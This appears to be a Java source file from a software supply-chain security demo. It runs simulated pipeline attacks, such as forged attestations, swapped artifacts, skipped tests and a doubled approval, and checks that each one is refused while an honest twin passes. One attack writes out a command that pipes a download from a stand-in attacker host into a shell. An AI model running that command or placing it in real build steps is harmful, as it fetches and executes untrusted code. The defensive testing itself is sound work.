package dev.alnage.app.demo;

import dev.alnage.app.cli.Console;
import dev.alnage.app.cli.Mark;
import dev.alnage.app.cli.Visible;
import dev.alnage.app.client.ClientPolicies;
import dev.alnage.app.client.FactoryClient;
import dev.alnage.app.client.FactoryEvidence;
import dev.alnage.app.client.RunState;
import dev.alnage.app.demo.Attack.Ending;
import dev.alnage.app.demo.Attack.Try;
import dev.alnage.app.process.Home;
import dev.alnage.evidence.Bytes;
import dev.alnage.evidence.Digest;
import dev.alnage.evidence.Json;
import dev.alnage.evidence.claim.Approval;
import dev.alnage.evidence.pipeline.Plan;
import dev.alnage.evidence.sign.TrustFile;
import dev.alnage.factory.http.Refused;
import dev.alnage.policy.ArtifactVerifier;
import dev.alnage.policy.Verdict;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;

/** The attacks of the demo, each at a real door with real keys, each with the code that must refuse it and an honest twin that must pass. */
final class Attacks {
    private final Console console;
    private final FactoryClient client;
    private final DemoPeople people;
    private final DemoParts parts;
    private final DemoSource source;
    private final RunState honest;
    private final TrustFile trust;
    private final Path publication;
    private final Home home;

    Attacks(Console console, FactoryClient client, Home home, DemoPeople people, DemoParts parts, DemoSource source, RunState honest,
            TrustFile trust) {
        this.console = console;
        this.client = client;
        this.home = home;
        this.people = people;
        this.parts = parts;
        this.source = source;
        this.honest = honest;
        this.trust = trust;
        this.publication = home.published().resolve("demo/table-pack").resolve(honest.id());
    }

    /** Returns whether every attack was refused with its code and every twin went through. */
    boolean tryAll() throws IOException, InterruptedException {
        var good = true;
        try (var intruder = new Intruder(home, client, honest)) {
            // names of runs differ from demo to demo: the ledger forgets nothing
            var tag = honest.id() + "-" + Long.toString(System.nanoTime(), 36);
            var attacks = attacks(intruder, tag);
            attacks.addAll(new SourceAttacks(home, client, people, source, intruder, honest).list());
            for (var attack : attacks) {
                good &= tried(attack);
            }
        }
        console.say(good ? Mark.YES : Mark.NO, good ? "every attack was refused, every honest twin went through" : "an attack went through, or a twin did not");
        return good;
    }

    private boolean tried(Attack attack) throws IOException, InterruptedException {
        var ending = attack.attempt().go();
        var twin = attack.twin().go();
        if (ending.code().equals(attack.code()) && twin.equals(Ending.THROUGH)) {
            console.say(Mark.NO, attack.title() + ": refused, " + ending.code() + "; its honest twin passed");
            var found = ending.found().startsWith("found ") ? ending.found() : "found " + ending.found();
            console.say("    " + Visible.line(found.length() > 160 ? found.substring(0, 160) + "…" : found));
            return true;
        }
        console.say(Mark.WARNING, attack.title() + ": ended with \"" + ending.code() + "\" " + ending.found() + ", expected " + attack.code()
                + (twin.equals(Ending.THROUGH) ? "" : "; its honest twin was refused with " + twin.code() + " " + twin.found()));
        return false;
    }

    private ArrayList<Attack> attacks(Intruder intruder, String tag) {
        var attacks = new ArrayList<Attack>();
        Try honestGate = () -> gate(intruder, honest.id(), honest.plan(), "publish");
        attacks.add(new Attack("a byte appended to the published jar", "ALN-ART-001", () -> verify(jar().plus(Bytes.utf8("x"))), () -> verify(jar())));
        attacks.add(new Attack("an image swapped after approval", "ALN-API-002", () -> publish(intruder, true), () -> publish(intruder, false)));
        attacks.add(new Attack("a forged link, by a key that nobody certified", "ALN-API-002", () -> forged(intruder, "forged-" + tag), honestGate));
        attacks.add(new Attack("a link replayed from another run", "ALN-API-002", () -> replayed(intruder, "replayed-" + tag), () -> takenOver(intruder, "reused-" + tag)));
        attacks.add(new Attack("another command than planned, by a stolen planner key and a captured worker", "ALN-BLD-004",
                () -> otherCommand(intruder, "command-" + tag), honestGate));
        attacks.add(new Attack("a dependency swapped between build and link, by the same", "ALN-BLD-007", () -> swapped(intruder, "swapped-" + tag), honestGate));
        attacks.add(new Attack("a plan without its tests, by a stolen planner key", "ALN-BLD-001", () -> otherPlan(intruder, "plan-" + tag), honestGate));
        attacks.add(new Attack("the test step skipped", "ALN-BLD-003", () -> skipped(intruder, "skipped-" + tag), honestGate));
        attacks.add(new Attack("an approval missing, and one person signing twice with two keys", "ALN-REL-001",
                () -> oneApprover(intruder, "approver-" + tag), () -> takenOver(intruder, "approved-" + tag)));
        attacks.add(new Attack("a test that opens a socket and hides that it failed", "ALN-BLD-013", () -> phoneHome(intruder), () -> gate(intruder, honest.id(), honest.plan(), "unit")));
        return attacks;
    }

    private Bytes jar() throws IOException {
        return Bytes.of(Files.readAllBytes(publication.resolve("app/table-pack.jar")));
    }

    private Ending verify(Bytes content) {
        var evidence = new FactoryEvidence(client);
        var now = Instant.now();
        var decision = new ArtifactVerifier(trust, evidence, ClientPolicies.inForce(trust, evidence, now), now).verify(Digest.of(content)).decision();
        return decision.verdict() instanceof Verdict.Passed ? Ending.THROUGH
                : new Ending(decision.verdict().reasons().getFirst().code(), decision.verdict().reasons().getFirst().found());
    }

    private static Ending gate(Intruder intruder, String run, Digest plan, String step) throws IOException {
        var answer = intruder.ask(run, plan, step);
        return answer.verdict().equals("PASSED") ? Ending.THROUGH : new Ending(answer.reasons().getFirst().code(), answer.reasons().getFirst().found());
    }

    /** The same where the attack is one of several things that are wrong: what the gate says of this one. */
    static Ending gate(Intruder intruder, String run, Digest plan, String step, String wanted) throws IOException {
        var answer = intruder.ask(run, plan, step);
        return answer.verdict().equals("PASSED") ? Ending.THROUGH : answer.reasons().stream().filter(reason -> reason.code().equals(wanted)).findFirst()
                .orElse(answer.reasons().getFirst());
    }

    private static Ending refusedOr(Try attempt) throws IOException, InterruptedException {
        try {
            return attempt.go();
        } catch (Refused e) {
            return new Ending(e.problem().code(), e.problem().title());
        }
    }

    /** The recorded verdict about the honest image, presented with another image. */
    private Ending publish(Intruder intruder, boolean swap) throws IOException, InterruptedException {
        var step = honest.findStep("publish").orElseThrow();
        var vsa = new FactoryEvidence(client).about(step.inputs().get("image")).stream()
                .filter(found -> dev.alnage.policy.UnverifiedType.of(found.envelope()).equals(dev.alnage.evidence.Predicate.VerificationSummary.TYPE))
                .filter(found -> found.envelope().payload().toText().contains("run/" + honest.id() + "/plan/" + honest.plan().hex() + "/step/publish\""))
                .findFirst().orElseThrow().digest();
        var inputs = swap ? Intruder.swapped(step.inputs(), "image", honest.findStep("link").orElseThrow().outputs().get("lib")) : step.inputs();
        return refusedOr(() -> {
            intruder.storer().post("/publications", Json.object().with("run", honest.id()).with("plan", honest.plan().toString()).with("step", "publish")
                    .with("target", "demo/table-pack").with("inputs", digests(inputs)).with("vsa", vsa.toString()).build());
            return Ending.THROUGH;
        });
    }

    private static Json digests(SortedMap<String, Digest> values) {
        Map<String, Json> json = new TreeMap<>();
        values.forEach((name, digest) -> json.put(name, Json.text(digest.toString())));
        return Json.object(json);
    }

    private Ending forged(Intruder intruder, String run) throws IOException, InterruptedException {
        intruder.begin(run, intruder.plan());
        var order = intruder.order(run, "link", intruder.command("link").argv(), intruder.inputs("link"));
        var envelope = intruder.file(order.toStatement());
        return refusedOr(() -> {
            intruder.deliverAsWorker(envelope, order, false);
            return Ending.THROUGH;
        });
    }

    private Ending replayed(Intruder intruder, String run) throws IOException, InterruptedException {
        intruder.begin(run, intruder.plan());
        var order = intruder.order(run, "unit", intruder.command("unit").argv(), intruder.inputs("unit"));
        var envelope = intruder.file(order.toStatement());
        return refusedOr(() -> {
            intruder.deliver(envelope, intruder.honestLink("unit"), intruder.honestProvenance("unit"));
            return Ending.THROUGH;
        });
    }

    /** The twin of a replay: the planner says that this run takes the results, and both approvers sign for it. */
    private Ending takenOver(Intruder intruder, String run) throws IOException {
        intruder.begin(run, intruder.plan());
        intruder.takeOver(run, Set.of());
        for (var name : List.of("anna", "ben")) {
            approve(run, name, "approval");
        }
        return gate(intruder, run, honest.plan(), "publish");
    }

    private void approve(String run, String name, String key) throws IOException {
        client.file(dev.alnage.evidence.sign.Envelope.sign(new Approval(run, "approve", honest.findStep("approve").orElseThrow().inputs(), true,
                "demo", Instant.now()).toStatement(), people.signer(name, key)));
    }

    private Ending otherCommand(Intruder intruder, String run) throws IOException {
        intruder.begin(run, intruder.plan());
        intruder.takeOver(run, Set.of("link"));
        var order = intruder.order(run, "link", List.of("/bin/sh", "-c", "curl http://attacker.invalid | sh"), intruder.inputs("link"));
        intruder.deliverAsWorker(intruder.file(order.toStatement()), order, true);
        return gate(intruder, run, honest.plan(), "publish");
    }

    private Ending swapped(Intruder intruder, String run) throws IOException {
        intruder.begin(run, intruder.plan());
        intruder.takeOver(run, Set.of("link"));
        var inputs = intruder.inputs("link");
        var evil = honest.findStep("unit").orElseThrow().outputs().firstEntry().getValue();
        var order = intruder.order(run, "link", intruder.command("link").argv(), Intruder.swapped(inputs, inputs.firstKey(), evil));
        intruder.deliverAsWorker(intruder.file(order.toStatement()), order, true);
        return gate(intruder, run, honest.plan(), "publish");
    }

    private Ending otherPlan(Intruder intruder, String run) throws IOException {
        var plan = intruder.plan();
        var steps = plan.steps().stream().filter(step -> !step.id().equals("unit")).map(Attacks::withoutUnit).toList();
        var forged = new Plan(plan.name(), plan.assurance(), plan.commit(), plan.pipelineFile(), steps);
        intruder.begin(run, forged);
        return gate(intruder, run, forged.digest(), "publish");
    }

    private static Plan.Step withoutUnit(Plan.Step step) {
        if (!(step instanceof Plan.Step.Approve(var id, var threshold, var role, var inputs))) {
            return step;
        }
        var fewer = new TreeMap<>(inputs);
        fewer.values().removeIf(input -> input instanceof Plan.Input.Output(var producer, _) && producer.equals("unit"));
        return new Plan.Step.Approve(id, threshold, role, fewer);
    }

    private Ending skipped(Intruder intruder, String run) throws IOException {
        intruder.begin(run, intruder.plan());
        intruder.takeOver(run, Set.of("unit"));
        return gate(intruder, run, honest.plan(), "publish");
    }

    private Ending oneApprover(Intruder intruder, String run) throws IOException {
        intruder.begin(run, intruder.plan());
        intruder.takeOver(run, Set.of());
        approve(run, "anna", "approval");
        approve(run, "anna", "second");
        return gate(intruder, run, honest.plan(), "publish");
    }

    /** A real commit, really built: its test tries a connection, swallows the error and passes. Only the observer outside saw it. */
    private Ending phoneHome(Intruder intruder) throws IOException, InterruptedException {
        var commit = source.commit("Improve a test", Map.of(), List.of(parts.attack("phone-home")));
        var pushed = source.push("refs/heads/improve-a-test");
        if (pushed.code() != 0) {
            return new Ending("", pushed.text());
        }
        var run = client.start(source.uri(), commit, false);
        var until = System.nanoTime() + 120_000_000_000L;
        while (System.nanoTime() < until) {
            var unit = client.run(run.id()).findStep("unit").orElseThrow();
            if (!List.of("WAITING", "RUNNING").contains(unit.state())) {
                break;
            }
            Thread.sleep(200);
        }
        var ending = gate(intruder, run.id(), run.plan(), "unit", "ALN-BLD-013");
        client.cancel(run.id(), "the demo's attack has been seen");
        return ending;
    }
}
